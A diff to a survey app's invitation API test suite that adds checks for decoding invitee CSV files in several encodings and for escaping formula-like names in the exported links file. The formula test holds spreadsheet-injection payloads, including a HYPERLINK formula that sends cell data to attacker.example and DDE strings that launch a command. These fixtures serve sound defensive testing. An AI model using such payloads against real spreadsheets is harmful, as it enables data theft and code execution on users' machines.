@@ -1,7 +1,8 @@
 /**
  * The leader survey's invitations over real HTTP: import, links for mail merge, one response per
  * token (in the same transaction), completion tracking — and the anonymity guarantee, shown on a
- * dump of the whole database: nothing links a response to its invitee.
+ * dump of the whole database: nothing links a response to its invitee. Invitee files are read in
+ * every encoding Excel saves, and the links file never hands a spreadsheet a formula.
  */
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { sql } from "kysely";
@@ -10,6 +11,8 @@ import { startTestServer, type TestServer } from "../helpers/server.js";
 import { demoUnits, instrumentOf, makeSubmission } from "../helpers/responses.js";
 import { seededRng } from "../../server/demo/random.js";
 import type { Instrument } from "../../shared/instrument/schema.js";
+import { readCsv } from "../../server/lib/csv.js";
+import { encodedFixtures, TCVN3_THON_PHU_LOC } from "../helpers/encodings.js";
 
 describe.each(DIALECTS)("invitations on %s", (dialect) => {
   const skip = dialect === "postgres" && !postgresAvailable;
@@ -103,6 +106,44 @@ describe.each(DIALECTS)("invitations on %s", (dialect) => {
     expect(res.body.error.code).toBe("round_not_open");
     expect(res.body.error.message_vi).toMatch(/kết thúc/);
     await server.ctx.db.kysely.updateTable("rounds").set({ status: "open" }).where("id", "=", round).execute();
+  });
+
+  it.skipIf(skip)("reads an invitee file in UTF-8, UTF-8 with BOM, UTF-16LE with BOM and Windows-1258 to the same names", async () => {
+    const names = ["Nguyễn Thị Hồng Nhung", "Trần Văn Đức", "Lê Thị Ánh Tuyết"];
+    const csv = (i: number) => `name;email;group;agency\n${names.map((n, j) => `${n};enc${i}.${j}@example.vn;so;${agencies[j % agencies.length]}`).join("\n")}\n`;
+    for (let i = 0; i < 4; i++) {
+      const [encoding, bytes] = encodedFixtures(csv(i))[i]!;
+      const res = await server.api(`/api/rounds/${round}/invitations`, { method: "POST", body: new Uint8Array(bytes), headers: { ...admin, "content-type": "text/csv" } });
+      expect(res.status, `${encoding}: ${JSON.stringify(res.body)}`).toBe(201);
+      const stored = await server.ctx.db.kysely.selectFrom("invitations").select(["name", "email"]).where("email", "like", `enc${i}.%`).orderBy("email").execute();
+      expect(stored.map((r) => r.name), encoding).toEqual(names);
+    }
+  });
+
+  it.skipIf(skip)("refuses an invitee file it cannot decode surely, and stores nothing", async () => {
+    const before = await server.count("invitations");
+    const bytes = Buffer.concat([Buffer.from("name,email,group,agency\n"), TCVN3_THON_PHU_LOC, Buffer.from(`,tcvn3@example.vn,so,${agencies[0]}\n`)]);
+    const res = await server.api(`/api/rounds/${round}/invitations`, { method: "POST", body: new Uint8Array(bytes), headers: { ...admin, "content-type": "text/csv" } });
+    expect(res.status).toBe(422);
+    expect(res.body.error.errors[0]).toMatchObject({ question: "line 2", code: "invalid_field" });
+    expect(res.body.error.errors[0].message_vi).toContain("CSV UTF-8");
+    expect(res.body.error.errors[0].message_en).toContain("CSV UTF-8");
+    const unclosed = await server.api(`/api/rounds/${round}/invitations`, { method: "POST", body: `name,email,group,agency\n"Open,x@example.vn,so,${agencies[0]}\n`, headers: { ...admin, "content-type": "text/csv" } });
+    expect(unclosed.status).toBe(422);
+    expect(unclosed.body.error.errors[0].question).toBe("line 2");
+    expect(await server.count("invitations")).toBe(before);
+  });
+
+  it.skipIf(skip)("links.csv writes an invitee named like a formula as text", async () => {
+    const formulas = ['=HYPERLINK("http://attacker.example/?d="&B2,"Bấm vào đây")', "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1"];
+    const json = { invitees: formulas.map((name, i) => ({ name, email: `formula${i}@example.vn`, group: "so", agency: agencies[0] })) };
+    expect((await server.api(`/api/rounds/${round}/invitations`, { json, headers: admin })).status).toBe(201);
+    const res = await fetch(`${server.url}/api/rounds/${round}/invitations/links.csv`, { headers: admin });
+    const table = readCsv(new Uint8Array(await res.arrayBuffer()));
+    const nameOf = new Map(table.records.map((r) => [r.fields[table.columns.indexOf("email")], r.fields[table.columns.indexOf("name")]]));
+    formulas.forEach((name, i) => expect(nameOf.get(`formula${i}@example.vn`)).toBe(`'${name}`));
+    // No cell of the file starts like a formula.
+    for (const record of table.records) for (const field of record.fields) expect(field).not.toMatch(/^[=+\-@]/);
   });
 
   it.skipIf(skip)("the database holds nothing that links a response to its invitee", async () => {
